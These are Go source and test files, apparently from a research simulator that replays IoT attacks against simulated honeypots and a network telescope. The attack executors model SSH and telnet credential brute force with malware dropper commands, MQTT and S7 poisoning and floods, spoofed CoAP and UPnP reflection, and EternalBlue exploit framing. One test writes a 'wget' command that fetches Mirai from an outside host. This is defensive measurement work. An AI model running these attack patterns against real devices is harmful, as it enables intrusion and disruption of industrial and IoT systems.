		return e.s7Attack(ctx, typ, src, ep, gen)
	case iot.ProtoModbus:
		return e.modbusAttack(ctx, typ, src, ep, gen)
	default:
		return fmt.Errorf("attack: no executor for %s", proto)
	}
}

func (e *Executor) telnetAttack(ctx context.Context, typ honeypot.AttackType,
	src netsim.IPv4, ep netsim.Endpoint, gen *prng.Source) error {
	conn, err := e.dial(ctx, src, ep)
	if err != nil {
		return nil // target gone; nothing to observe
	}
	defer conn.Close()
	switch typ {
	case honeypot.AttackMalware:
		user, pass := credentialFor(gen)
		ok, _ := telnet.Login(ctx, conn, user, pass, actionTimeout)
		if ok {
			sample := e.corpus.Pick(gen, "telnet")
			if sample != nil {
				_, _ = telnet.Exec(conn, sample.DropperCommand, actionTimeout)
			}
			_, _ = telnet.Exec(conn, "exit", actionTimeout)
		}
	case honeypot.AttackBruteForce, honeypot.AttackDictionary:
		user, pass := credentialFor(gen)
		_, _ = telnet.Login(ctx, conn, user, pass, actionTimeout)
	default: // scan: banner grab only
		_, _ = telnet.Grab(ctx, conn, 50*time.Millisecond)
	}
	return nil
}

func (e *Executor) sshAttack(ctx context.Context, typ honeypot.AttackType,
	src netsim.IPv4, ep netsim.Endpoint, gen *prng.Source) error {
	conn, err := e.dial(ctx, src, ep)
	if err != nil {
		return nil
	}
	defer conn.Close()
	if _, err := ssh.GrabBanner(conn, actionTimeout); err != nil {
		return nil
	}
	switch typ {
	case honeypot.AttackMalware:
		user, pass := credentialFor(gen)
		ok, _ := ssh.Login(conn, "SSH-2.0-Go-bot", user, pass, actionTimeout)
		if ok {
			sample := e.corpus.Pick(gen, "ssh")
			if sample != nil {
				_, _ = conn.Write([]byte(sample.DropperCommand + "\n"))
			}
			_, _ = conn.Write([]byte("exit\n"))
		}
	case honeypot.AttackDictionary:
		user, pass := credentialFor(gen)
		if ok, _ := ssh.Login(conn, "SSH-2.0-libssh", user, pass, actionTimeout); !ok {
			for i := 0; i < 4; i++ {
				u, p := credentialFor(gen)
				if ok, _ := ssh.Attempt(conn, u, p, actionTimeout); ok {
					break
				}
			}
		}
	case honeypot.AttackBruteForce:
		user, pass := credentialFor(gen)
		_, _ = ssh.Login(conn, "SSH-2.0-paramiko", user, pass, actionTimeout)
	default:
		// banner grab already done
	}
	return nil
}

func (e *Executor) mqttAttack(ctx context.Context, typ honeypot.AttackType,
	src netsim.IPv4, ep netsim.Endpoint, gen *prng.Source) error {
	conn, err := e.dial(ctx, src, ep)
	if err != nil {
		return nil
	}
	c := mqtt.NewClient(conn, actionTimeout)
	defer c.Disconnect()
	if _, err := c.Connect(fmt.Sprintf("c-%08x", uint32(src)), "", ""); err != nil {
		return nil
	}
	switch typ {
	case honeypot.AttackPoisoning:
		topics := []string{"arduino/sensors/smoke", "dionaea/device/state", "plant/valve"}
		_ = c.Publish(topics[gen.Intn(len(topics))], []byte("0xdeadbeef"), true)
	case honeypot.AttackDoS:
		for i := 0; i < 5; i++ {
			_ = c.Publish("flood/"+strconv.Itoa(i), make([]byte, 512), false)
		}
	default: // scan: list $SYS
		_ = c.Subscribe("$SYS/#")
	}
	return nil
}

func (e *Executor) amqpAttack(ctx context.Context, typ honeypot.AttackType,
	src netsim.IPv4, ep netsim.Endpoint, gen *prng.Source) error {
	conn, err := e.dial(ctx, src, ep)
	if err != nil {
		return nil
	}
	defer conn.Close()
	sess, ok, err := amqp.Connect(conn, "PLAIN", "", "", actionTimeout)
	if err != nil || !ok {
		return nil
	}
	switch typ {
	case honeypot.AttackPoisoning:
		_ = sess.Publish("amq.topic", "queue.data", []byte("poisoned"))
	case honeypot.AttackDoS:
		for i := 0; i < 5; i++ {
			_ = sess.Publish("amq.fanout", "flood", make([]byte, 512))
		}
	default:
	}
	_ = sess.Close()
	return nil
}

func (e *Executor) xmppAttack(ctx context.Context, typ honeypot.AttackType,
	src netsim.IPv4, ep netsim.Endpoint, gen *prng.Source) error {
	conn, err := e.dial(ctx, src, ep)
	if err != nil {
		return nil
	}
	defer conn.Close()
	if _, _, err := xmpp.ProbeBanner(conn, "philips-hue.local", actionTimeout); err != nil {
		return nil
	}
	switch typ {
	case honeypot.AttackBruteForce, honeypot.AttackDictionary:
		user, pass := credentialFor(gen)
		_, _ = xmpp.Authenticate(conn, "PLAIN", user, pass, actionTimeout)
	case honeypot.AttackPoisoning:
		if ok, _ := xmpp.Authenticate(conn, "ANONYMOUS", "", "", actionTimeout); ok {
			_, _ = xmpp.SendStanza(conn, `<iq type='set'><lights state='off'/></iq>`, actionTimeout)
		}
	default:
		_, _ = xmpp.Authenticate(conn, "ANONYMOUS", "", "", actionTimeout)
	}
	return nil
}

func (e *Executor) coapAttack(typ honeypot.AttackType, src netsim.IPv4,
	ep netsim.Endpoint, gen *prng.Source) error {
	c := coap.NewClient(uint64(src))
	opts := netsim.ProbeOptions{}
	switch typ {
	case honeypot.AttackPoisoning:
		e.net.Query(src, ep, c.Put("/config/name", []byte("pwned")), opts)
	case honeypot.AttackDoS:
		for i := 0; i < 8; i++ {
			e.net.Query(src, ep, c.DiscoveryProbe(), opts)
		}
	case honeypot.AttackReflection:
		// Spoofed-source discovery: the reflection primitive.
		e.net.Query(src, ep, c.DiscoveryProbe(), netsim.ProbeOptions{Spoofed: true})
	default:
		e.net.Query(src, ep, c.DiscoveryProbe(), opts)
	}
	return nil
}

func (e *Executor) upnpAttack(typ honeypot.AttackType, src netsim.IPv4,
	ep netsim.Endpoint, gen *prng.Source) error {
	probe := upnp.BuildMSearch("ssdp:all")
	switch typ {
	case honeypot.AttackDoS:
		// SSDP floods are long bursts; U-Pot's log ends up >80% DoS
		// (Section 5.1.3) once the rate detector kicks in.
		for i := 0; i < 16; i++ {
			e.net.Query(src, ep, probe, netsim.ProbeOptions{})
		}
	case honeypot.AttackReflection:
		e.net.Query(src, ep, probe, netsim.ProbeOptions{Spoofed: true})
	default:
		e.net.Query(src, ep, probe, netsim.ProbeOptions{})
	}
	return nil
}

func (e *Executor) httpAttack(ctx context.Context, typ honeypot.AttackType,
	src netsim.IPv4, ep netsim.Endpoint, gen *prng.Source) error {
	conn, err := e.dial(ctx, src, ep)
	if err != nil {
		return nil
	}
	defer conn.Close()
	switch typ {
	case honeypot.AttackBruteForce, honeypot.AttackDictionary:
		user, pass := credentialFor(gen)
		_, _ = httpx.Post(conn, "/doLogin", map[string]string{
			"username": user, "password": pass}, actionTimeout)
	case honeypot.AttackDoS:
		for i := 0; i < 6; i++ {
			if _, err := httpx.Get(conn, "/", actionTimeout); err != nil {
				break
			}
		}
	case honeypot.AttackMalware:
		body := make([]byte, 8192) // crypto-miner injection attempt
		copy(body, "<?php eval(base64_decode(")
		_, _ = httpx.Do(conn, "POST", "/upload.php", body, actionTimeout)
	default: // web scraping
		for _, path := range []string{"/", "/robots.txt", "/login"} {
			if _, err := httpx.Get(conn, path, actionTimeout); err != nil {
				break
			}
		}
	}
	return nil
}

func (e *Executor) ftpAttack(ctx context.Context, typ honeypot.AttackType,
	src netsim.IPv4, ep netsim.Endpoint, gen *prng.Source) error {
	conn, err := e.dial(ctx, src, ep)
	if err != nil {
		return nil
	}
	c := ftp.NewClient(conn)
	defer c.Quit(actionTimeout)
	if _, err := c.ReadReply(actionTimeout); err != nil {
		return nil
	}
	switch typ {
	case honeypot.AttackMalware:
		if ok, _ := c.Login("anonymous", "bot@", actionTimeout); ok {
			if sample := e.corpus.Pick(gen, "ftp"); sample != nil {
				_, _ = c.Store(sample.Variant+".bin", sample.Bytes, actionTimeout)
			}
		}
	case honeypot.AttackBruteForce, honeypot.AttackDictionary:
		user, pass := credentialFor(gen)
		_, _ = c.Login(user, pass, actionTimeout)
	default:
		_, _ = c.Login("anonymous", "probe@", actionTimeout)
	}
	return nil
}

func (e *Executor) smbAttack(ctx context.Context, typ honeypot.AttackType,
	src netsim.IPv4, ep netsim.Endpoint, gen *prng.Source) error {
	conn, err := e.dial(ctx, src, ep)
	if err != nil {
		return nil
	}
	defer conn.Close()
	switch typ {
	case honeypot.AttackExploit:
		kind := smb.KindEternalBlue
		if gen.Bool(0.3) {
			kind = smb.KindEternalRomance
		}
		_, _ = conn.Write(smb.BuildExploit(kind, nil)[:40])
		_, _ = smb.Probe(conn, actionTimeout) // drain
	case honeypot.AttackMalware:
		sample := e.corpus.Pick(gen, "smb")
		payload := []byte("MZ fallback")
		if sample != nil {
			payload = sample.Bytes
		}
		_, _ = conn.Write(smb.BuildExploit(smb.KindEternalBlue, payload))
		buf := make([]byte, 256)
		_ = conn.SetReadDeadline(time.Now().Add(actionTimeout))
		_, _ = conn.Read(buf)
	default:
		_, _ = smb.Probe(conn, actionTimeout)
	}
	return nil
}

func (e *Executor) s7Attack(ctx context.Context, typ honeypot.AttackType,
	src netsim.IPv4, ep netsim.Endpoint, gen *prng.Source) error {
	conn, err := e.dial(ctx, src, ep)
	if err != nil {
		return nil
	}
	defer conn.Close()
	if err := s7.Connect(conn, actionTimeout); err != nil {
		return nil
	}
	switch typ {
	case honeypot.AttackDoS:
		// ICSA-16-299-01: flood job requests until the device wedges.
		for i := 0; i < 80; i++ {
			if _, err := conn.Write(s7.BuildJob(s7.FuncSetupComm)); err != nil {
				break
			}
		}
		// Drain acks until the wedged device drops the session; closing
		// immediately would tear the connection down before the PLC
		// processes (and the honeypot logs) the queued jobs.
		_ = conn.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
		_, _ = io.Copy(io.Discard, conn)
	case honeypot.AttackPoisoning:
		_, _ = conn.Write(s7.BuildJob(s7.FuncWrite))
	default:
		_, _ = s7.ReadModule(conn, actionTimeout)
	}
	return nil
}

func (e *Executor) modbusAttack(ctx context.Context, typ honeypot.AttackType,
	src netsim.IPv4, ep netsim.Endpoint, gen *prng.Source) error {
	conn, err := e.dial(ctx, src, ep)
	if err != nil {
		return nil
	}
	defer conn.Close()
	switch typ {
	case honeypot.AttackPoisoning:
		_ = modbus.WriteSingle(conn, uint16(gen.Intn(16)), uint16(gen.Uint32()), actionTimeout)
	default:
		// 90% of observed Modbus traffic used invalid function codes
		// (Section 5.1.4); scans mostly poke nonsense functions.
		if gen.Bool(0.9) {
			_, _ = conn.Write(modbus.BuildRequest(1, 1, byte(0x60+gen.Intn(16)), []byte{0, 0}))
			buf := make([]byte, 64)
			_ = conn.SetReadDeadline(time.Now().Add(actionTimeout))
			_, _ = conn.Read(buf)
		} else {
			_, _ = modbus.ReadHolding(conn, 0, 4, actionTimeout)
		}
	}
	return nil
}
