package attack

import (
	"bytes"
	"context"
	"reflect"
	"testing"
	"time"

	"openhire/internal/attack/malware"
	"openhire/internal/geo"
	"openhire/internal/honeypot"
	"openhire/internal/netsim"
	"openhire/internal/telescope"
)

// dumpFlows serializes a telescope's capture to CSV bytes.
func dumpFlows(t *testing.T, flows []*telescope.FlowTuple) []byte {
	t.Helper()
	var buf bytes.Buffer
	for _, ft := range flows {
		if err := ft.WriteCSV(&buf); err != nil {
			t.Fatal(err)
		}
	}
	return buf.Bytes()
}

// runDarknet generates a 3-day capture at the paper's benchmark scale with
// the given worker count and returns the CSV dump plus the Table 8 rows.
func runDarknet(t *testing.T, workers int) ([]byte, []telescope.ProtocolStats) {
	t.Helper()
	tel := telescope.New(netsim.MustParsePrefix("44.0.0.0/8"), geo.NewDB(1, nil))
	g := NewDarknetGenerator(DarknetConfig{
		Seed: 9, Telescope: tel, GeoDB: geo.NewDB(1, nil),
		Scale: 1.0 / 8192, Days: 3, Workers: workers,
	})
	g.Run()
	flows := tel.Flows()
	return dumpFlows(t, flows), telescope.AggregateByProtocol(flows)
}

// TestDarknetParallelEquivalence is the tentpole guarantee: the same seed at
// Scale=1/8192 over 3 days produces byte-identical flow dumps and identical
// Table 8 aggregation rows whether generation ran on 1 worker or 8.
func TestDarknetParallelEquivalence(t *testing.T) {
	dumpSeq, aggSeq := runDarknet(t, 1)
	dumpPar, aggPar := runDarknet(t, 8)
	if !bytes.Equal(dumpSeq, dumpPar) {
		t.Fatalf("flow dumps differ between 1 and 8 workers (%d vs %d bytes)",
			len(dumpSeq), len(dumpPar))
	}
	if !reflect.DeepEqual(aggSeq, aggPar) {
		t.Fatalf("AggregateByProtocol differs:\n1 worker: %+v\n8 workers: %+v", aggSeq, aggPar)
	}
}

// TestDarknetSameSeedSameDump is the regression test for the map-iteration
// determinism bug: with a populated scanning-service pool, two generators
// built from scratch with the same seed must emit byte-identical dumps. The
// source pool used to range over Sources' service map, whose iteration order
// the runtime randomizes, so this failed across process restarts — and often
// within one process.
func TestDarknetSameSeedSameDump(t *testing.T) {
	run := func() []byte {
		s := NewSources(7, nil, nil, nil)
		s.BuildScanningPool(600)
		tel := telescope.New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
		g := NewDarknetGenerator(DarknetConfig{
			Seed: 13, Telescope: tel, Sources: s, Scale: 1.0 / 200000, Days: 1,
		})
		g.Run()
		return dumpFlows(t, tel.Flows())
	}
	if a, b := run(), run(); !bytes.Equal(a, b) {
		t.Fatal("same-seed darknet runs produced different dumps")
	}
}

// TestDarknetRunDayMatchesRun verifies the rotation path: RunDay(d) + Drain
// per day concatenates to exactly the flow set Run produces in one shot.
func TestDarknetRunDayMatchesRun(t *testing.T) {
	cfg := func(tel *telescope.Telescope) DarknetConfig {
		return DarknetConfig{Seed: 21, Telescope: tel, Scale: 1.0 / 100000, Days: 3}
	}
	telA := telescope.New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
	NewDarknetGenerator(cfg(telA)).Run()
	oneShot := dumpFlows(t, telA.Flows())

	telB := telescope.New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
	gb := NewDarknetGenerator(cfg(telB))
	var rotated []byte
	for day := 0; day < 3; day++ {
		gb.RunDay(day)
		rotated = append(rotated, dumpFlows(t, telB.Drain())...)
	}
	if telB.Len() != 0 {
		t.Fatalf("telescope holds %d flows after final drain", telB.Len())
	}
	// Run interleaves days per protocol in unit-ordinal order; rotation cuts
	// per day. Same flows, so per-protocol totals must agree exactly.
	aggEqual := func(dump []byte) []telescope.ProtocolStats {
		flows, err := telescope.ReadCSV(bytes.NewReader(dump))
		if err != nil {
			t.Fatal(err)
		}
		return telescope.AggregateByProtocol(flows)
	}
	if a, b := aggEqual(oneShot), aggEqual(rotated); !reflect.DeepEqual(a, b) {
		t.Fatalf("rotated aggregation differs:\nrun: %+v\nrotated: %+v", a, b)
	}
	if len(oneShot) != len(rotated) {
		t.Fatalf("dump sizes differ: %d vs %d bytes", len(oneShot), len(rotated))
	}
}

// runCampaign replays a small attack month with the given worker count and
// returns the honeypot log canonically sorted.
func runCampaign(t *testing.T, workers int) []honeypot.Event {
	t.Helper()
	n, pots, log, u, clk := buildWorld(t)
	sources := NewSources(11, u, nil, nil)
	c := NewCampaign(CampaignConfig{
		Seed: 11, Network: n, Honeypots: pots, Universe: u,
		Sources: sources, Corpus: malware.NewCorpus(1, nil),
		Intensity: 0.004, Workers: workers, Clock: clk,
	})
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	c.Run(ctx)
	events := log.Events()
	honeypot.SortEventsCanonical(events)
	return events
}

// TestCampaignParallelEquivalence verifies the replay's worker-count
// independence: jobs are routed to per-worker FIFO queues by flood-counter
// key, so the log content — including which events the flood heuristic
// upgraded to DoS — is identical for 1 and 8 workers once scheduling order
// is factored out by the canonical sort.
func TestCampaignParallelEquivalence(t *testing.T) {
	seq := runCampaign(t, 1)
	par := runCampaign(t, 8)
	if len(seq) != len(par) {
		t.Fatalf("event counts differ: %d vs %d", len(seq), len(par))
	}
	for i := range seq {
		a, b := seq[i], par[i]
		if !a.Time.Equal(b.Time) || a.Honeypot != b.Honeypot || a.Protocol != b.Protocol ||
			a.Src != b.Src || a.Type != b.Type || a.Username != b.Username ||
			a.Password != b.Password || a.Detail != b.Detail || !bytes.Equal(a.Payload, b.Payload) {
			t.Fatalf("event %d differs:\n1 worker: %+v\n8 workers: %+v", i, a, b)
		}
	}
}
