package attack

import (
	"bytes"
	"context"
	"reflect"
	"testing"
	"time"

	"openhire/internal/attack/malware"
	"openhire/internal/geo"
	"openhire/internal/honeypot"
	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/telescope"
)

// dumpFlows serializes a telescope's capture to CSV bytes.
func dumpFlows(t *testing.T, flows []*telescope.FlowTuple) []byte {
	t.Helper()
	var buf bytes.Buffer
	for _, ft := range flows {
		if err := ft.WriteCSV(&buf); err != nil {
			t.Fatal(err)
		}
	}
	return buf.Bytes()
}

// runDarknet generates a 3-day capture at the paper's benchmark scale with
// the given worker count and returns the CSV dump plus the Table 8 rows.
func runDarknet(t *testing.T, workers int) ([]byte, []telescope.ProtocolStats) {
	t.Helper()
	tel := telescope.New(netsim.MustParsePrefix("44.0.0.0/8"), geo.NewDB(1, nil))
	g := NewDarknetGenerator(DarknetConfig{
		Seed: 9, Telescope: tel, GeoDB: geo.NewDB(1, nil),
		Scale: 1.0 / 8192, Days: 3, Workers: workers,
	})
	g.Run()
	flows := tel.Flows()
	return dumpFlows(t, flows), telescope.AggregateByProtocol(flows)
}

// TestDarknetParallelEquivalence is the tentpole guarantee: the same seed at
// Scale=1/8192 over 3 days produces byte-identical flow dumps and identical
// Table 8 aggregation rows whether generation ran on 1 worker or 8.
func TestDarknetParallelEquivalence(t *testing.T) {
	dumpSeq, aggSeq := runDarknet(t, 1)
	dumpPar, aggPar := runDarknet(t, 8)
	if !bytes.Equal(dumpSeq, dumpPar) {
		t.Fatalf("flow dumps differ between 1 and 8 workers (%d vs %d bytes)",
			len(dumpSeq), len(dumpPar))
	}
	if !reflect.DeepEqual(aggSeq, aggPar) {
		t.Fatalf("AggregateByProtocol differs:\n1 worker: %+v\n8 workers: %+v", aggSeq, aggPar)
	}
}

// TestDarknetSameSeedSameDump is the regression test for the map-iteration
// determinism bug: with a populated scanning-service pool, two generators
// built from scratch with the same seed must emit byte-identical dumps. The
// source pool used to range over Sources' service map, whose iteration order
// the runtime randomizes, so this failed across process restarts — and often
// within one process.
func TestDarknetSameSeedSameDump(t *testing.T) {
	run := func() []byte {
		s := NewSources(7, nil, nil, nil)
		s.BuildScanningPool(600)
		tel := telescope.New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
		g := NewDarknetGenerator(DarknetConfig{
			Seed: 13, Telescope: tel, Sources: s, Scale: 1.0 / 200000, Days: 1,
		})
		g.Run()
		return dumpFlows(t, tel.Flows())
	}
	if a, b := run(), run(); !bytes.Equal(a, b) {
		t.Fatal("same-seed darknet runs produced different dumps")
	}
}

// TestDarknetRunDayMatchesRun verifies the rotation path: RunDay(d) + Drain
// per day concatenates to exactly the flow set Run produces in one shot.
func TestDarknetRunDayMatchesRun(t *testing.T) {
	cfg := func(tel *telescope.Telescope) DarknetConfig {
		return DarknetConfig{Seed: 21, Telescope: tel, Scale: 1.0 / 100000, Days: 3}
	}
	telA := telescope.New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
	NewDarknetGenerator(cfg(telA)).Run()
	oneShot := dumpFlows(t, telA.Flows())

	telB := telescope.New(netsim.MustParsePrefix("44.0.0.0/8"), nil)
	gb := NewDarknetGenerator(cfg(telB))
	var rotated []byte
	for day := 0; day < 3; day++ {
		gb.RunDay(day)
		rotated = append(rotated, dumpFlows(t, telB.Drain())...)
	}
	if telB.Len() != 0 {
		t.Fatalf("telescope holds %d flows after final drain", telB.Len())
	}
	// Run interleaves days per protocol in unit-ordinal order; rotation cuts
	// per day. Same flows, so per-protocol totals must agree exactly.
	aggEqual := func(dump []byte) []telescope.ProtocolStats {
		flows, err := telescope.ReadCSV(bytes.NewReader(dump))
		if err != nil {
			t.Fatal(err)
		}
		return telescope.AggregateByProtocol(flows)
	}
	if a, b := aggEqual(oneShot), aggEqual(rotated); !reflect.DeepEqual(a, b) {
		t.Fatalf("rotated aggregation differs:\nrun: %+v\nrotated: %+v", a, b)
	}
	if len(oneShot) != len(rotated) {
		t.Fatalf("dump sizes differ: %d vs %d bytes", len(oneShot), len(rotated))
	}
}

// runCampaign replays a small attack month with the given worker count and
// returns the honeypot log canonically sorted.
func runCampaign(t *testing.T, workers int) []honeypot.Event {
	t.Helper()
	n, pots, log, u, clk := buildWorld(t)
	sources := NewSources(11, u, nil, nil)
	c := NewCampaign(CampaignConfig{
		Seed: 11, Network: n, Honeypots: pots, Universe: u,
		Sources: sources, Corpus: malware.NewCorpus(1, nil),
		Intensity: 0.004, Workers: workers, Clock: clk,
	})
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	c.Run(ctx)
	events := log.Events()
	honeypot.SortEventsCanonical(events)
	return events
}

// TestCampaignParallelEquivalence verifies the replay's worker-count
// independence: jobs are routed to per-worker FIFO queues by flood-counter
// key, so the log content — including which events the flood heuristic
// upgraded to DoS — is identical for 1 and 8 workers once scheduling order
// is factored out by the canonical sort.
func TestCampaignParallelEquivalence(t *testing.T) {
	seq := runCampaign(t, 1)
	par := runCampaign(t, 8)
	if len(seq) != len(par) {
		t.Fatalf("event counts differ: %d vs %d", len(seq), len(par))
	}
	for i := range seq {
		a, b := seq[i], par[i]
		if !a.Time.Equal(b.Time) || a.Honeypot != b.Honeypot || a.Protocol != b.Protocol ||
			a.Src != b.Src || a.Type != b.Type || a.Username != b.Username ||
			a.Password != b.Password || a.Detail != b.Detail || !bytes.Equal(a.Payload, b.Payload) {
			t.Fatalf("event %d differs:\n1 worker: %+v\n8 workers: %+v", i, a, b)
		}
	}
}

// TestDarknetOnUnitZeroPerturbation is the observability leg of the darknet
// equivalence gate: attaching an OnUnit hook must not change a single flow
// byte, the per-unit reports must sum to the generator's total, and the
// report sequence itself must be deterministic across runs.
func TestDarknetOnUnitZeroPerturbation(t *testing.T) {
	type unitReport struct {
		proto iot.Protocol
		day   int
		flows int
	}
	run := func(collect *[]unitReport) ([]byte, int) {
		tel := telescope.New(netsim.MustParsePrefix("44.0.0.0/8"), geo.NewDB(1, nil))
		cfg := DarknetConfig{
			Seed: 9, Telescope: tel, GeoDB: geo.NewDB(1, nil),
			Scale: 1.0 / 8192, Days: 3, Workers: 8,
		}
		if collect != nil {
			cfg.OnUnit = func(proto iot.Protocol, day, flows int) {
				*collect = append(*collect, unitReport{proto, day, flows})
			}
		}
		total := NewDarknetGenerator(cfg).Run()
		return dumpFlows(t, tel.Flows()), total
	}
	bare, bareTotal := run(nil)
	var unitsA, unitsB []unitReport
	hooked, hookedTotal := run(&unitsA)
	if !bytes.Equal(bare, hooked) {
		t.Fatalf("OnUnit hook changed the flow dump (%d vs %d bytes)", len(bare), len(hooked))
	}
	if bareTotal != hookedTotal {
		t.Fatalf("OnUnit hook changed the flow total: %d vs %d", bareTotal, hookedTotal)
	}
	sum := 0
	for _, u := range unitsA {
		sum += u.flows
	}
	if sum != hookedTotal {
		t.Fatalf("per-unit reports sum to %d, generator returned %d", sum, hookedTotal)
	}
	if _, total := run(&unitsB); total != hookedTotal || !reflect.DeepEqual(unitsA, unitsB) {
		t.Fatalf("unit report sequence not deterministic across runs")
	}
}

// TestCampaignOnDayZeroPerturbation is the observability leg of the campaign
// equivalence gate: attaching an OnDay hook must leave the honeypot log
// byte-identical, fire exactly once per simulated day in order, and report
// cumulative planned/run counts that end at the campaign's own totals.
func TestCampaignOnDayZeroPerturbation(t *testing.T) {
	type dayReport struct{ day, planned, run int }
	run := func(collect *[]dayReport) ([]honeypot.Event, Stats) {
		n, pots, log, u, clk := buildWorld(t)
		sources := NewSources(11, u, nil, nil)
		cfg := CampaignConfig{
			Seed: 11, Network: n, Honeypots: pots, Universe: u,
			Sources: sources, Corpus: malware.NewCorpus(1, nil),
			Intensity: 0.004, Workers: 8, Clock: clk,
		}
		if collect != nil {
			cfg.OnDay = func(day, planned, run int) {
				*collect = append(*collect, dayReport{day, planned, run})
			}
		}
		ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
		defer cancel()
		stats := NewCampaign(cfg).Run(ctx)
		events := log.Events()
		honeypot.SortEventsCanonical(events)
		return events, stats
	}
	bare, bareStats := run(nil)
	var days []dayReport
	hooked, hookedStats := run(&days)
	if len(bare) != len(hooked) {
		t.Fatalf("OnDay hook changed the event count: %d vs %d", len(bare), len(hooked))
	}
	for i := range bare {
		a, b := bare[i], hooked[i]
		if !a.Time.Equal(b.Time) || a.Honeypot != b.Honeypot || a.Src != b.Src ||
			a.Type != b.Type || a.Detail != b.Detail || !bytes.Equal(a.Payload, b.Payload) {
			t.Fatalf("event %d differs with OnDay hook attached:\nbare:   %+v\nhooked: %+v", i, a, b)
		}
	}
	bareStats.Elapsed, hookedStats.Elapsed = 0, 0 // wall-clock, excluded by design
	if bareStats != hookedStats {
		t.Fatalf("OnDay hook changed campaign stats: %+v vs %+v", bareStats, hookedStats)
	}
	if len(days) != ExperimentDays {
		t.Fatalf("OnDay fired %d times, want %d", len(days), ExperimentDays)
	}
	for i, d := range days {
		if d.day != i {
			t.Fatalf("day reports out of order: %+v at index %d", d, i)
		}
		if i > 0 && (d.planned < days[i-1].planned || d.run < days[i-1].run) {
			t.Fatalf("cumulative counts regressed at day %d: %+v after %+v", i, d, days[i-1])
		}
	}
	last := days[len(days)-1]
	if last.planned != hookedStats.EventsPlanned || last.run != hookedStats.EventsRun {
		t.Fatalf("final day report %+v does not reconcile with stats %+v", last, hookedStats)
	}
}
