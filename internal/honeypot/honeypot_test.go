package honeypot

import (
	"context"
	"strings"
	"testing"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/protocols/coap"
	"openhire/internal/protocols/ftp"
	"openhire/internal/protocols/mqtt"
	"openhire/internal/protocols/ssh"
	"openhire/internal/protocols/telnet"
	"openhire/internal/protocols/upnp"
)

// deploy builds the full six-honeypot farm on a fresh network.
func deploy(t *testing.T) (*netsim.Network, []*Honeypot, *Log) {
	t.Helper()
	n := netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart))
	pots, log := DeployAll(n, netsim.MustParseIPv4("130.226.56.10"))
	return n, pots, log
}

func dialOK(t *testing.T, n *netsim.Network, src netsim.IPv4, dst netsim.Endpoint) *netsim.ServiceConn {
	t.Helper()
	conn, err := n.Dial(context.Background(), src, dst, netsim.ProbeOptions{})
	if err != nil {
		t.Fatalf("dial %v: %v", dst, err)
	}
	return conn
}

func waitEvents(t *testing.T, log *Log, pred func([]Event) bool) []Event {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		evs := log.Events()
		if pred(evs) {
			return evs
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("events never matched; have %d", log.Len())
	return nil
}

func TestDeployAllProtocols(t *testing.T) {
	_, pots, _ := deploy(t)
	if len(pots) != 6 {
		t.Fatalf("%d honeypots", len(pots))
	}
	wantProtos := map[string][]iot.Protocol{
		"HosTaGe":  {iot.ProtoTelnet, iot.ProtoMQTT, iot.ProtoAMQP, iot.ProtoCoAP, iot.ProtoSSH, iot.ProtoHTTP, iot.ProtoSMB},
		"U-Pot":    {iot.ProtoUPnP},
		"Conpot":   {iot.ProtoSSH, iot.ProtoTelnet, iot.ProtoS7, iot.ProtoModbus, iot.ProtoHTTP},
		"ThingPot": {iot.ProtoXMPP, iot.ProtoHTTP},
		"Cowrie":   {iot.ProtoSSH, iot.ProtoTelnet},
		"Dionaea":  {iot.ProtoHTTP, iot.ProtoMQTT, iot.ProtoFTP, iot.ProtoSMB},
	}
	for _, hp := range pots {
		want := wantProtos[hp.Name]
		got := hp.Protocols()
		if len(got) != len(want) {
			t.Errorf("%s exposes %v, want %v", hp.Name, got, want)
		}
	}
}

func TestCowrieTelnetBruteForceLogged(t *testing.T) {
	n, pots, log := deploy(t)
	cowrie := pots[4]
	conn := dialOK(t, n, netsim.MustParseIPv4("203.0.113.66"), netsim.Endpoint{IP: cowrie.IP, Port: 23})
	defer conn.Close()
	ok, err := telnet.Login(context.Background(), conn, "root", "xc3511", time.Second)
	if err != nil || !ok {
		t.Fatalf("Login = %v, %v (Cowrie must accept everything)", ok, err)
	}
	conn.Close()
	evs := waitEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "Cowrie" && ev.Protocol == iot.ProtoTelnet &&
				ev.Username == "root" && ev.Password == "xc3511" {
				return true
			}
		}
		return false
	})
	_ = evs
}

func TestCowrieMalwareDropClassified(t *testing.T) {
	n, pots, log := deploy(t)
	cowrie := pots[4]
	conn := dialOK(t, n, netsim.MustParseIPv4("203.0.113.67"), netsim.Endpoint{IP: cowrie.IP, Port: 22})
	defer conn.Close()
	if _, err := ssh.GrabBanner(conn, time.Second); err != nil {
		t.Fatal(err)
	}
	ok, err := ssh.Login(conn, "SSH-2.0-mirai", "admin", "admin", time.Second)
	if err != nil || !ok {
		t.Fatalf("login: %v %v", ok, err)
	}
	for _, cmd := range []string{"wget http://198.51.100.9/mirai.arm7", "exit"} {
		if _, err := conn.Write([]byte(cmd + "\n")); err != nil {
			t.Fatal(err)
		}
	}
	waitEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "Cowrie" && ev.Type == AttackMalware &&
				strings.Contains(ev.Detail, "mirai.arm7") {
				return true
			}
		}
		return false
	})
}

func TestHosTaGeMQTTPoisoning(t *testing.T) {
	n, pots, log := deploy(t)
	hostage := pots[0]
	conn := dialOK(t, n, netsim.MustParseIPv4("198.51.100.5"), netsim.Endpoint{IP: hostage.IP, Port: 1883})
	c := mqtt.NewClient(conn, time.Second)
	if _, err := c.Connect("attacker", "", ""); err != nil {
		t.Fatal(err)
	}
	if err := c.Publish("arduino/sensors/smoke", []byte("999"), true); err != nil {
		t.Fatal(err)
	}
	c.Disconnect()
	waitEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
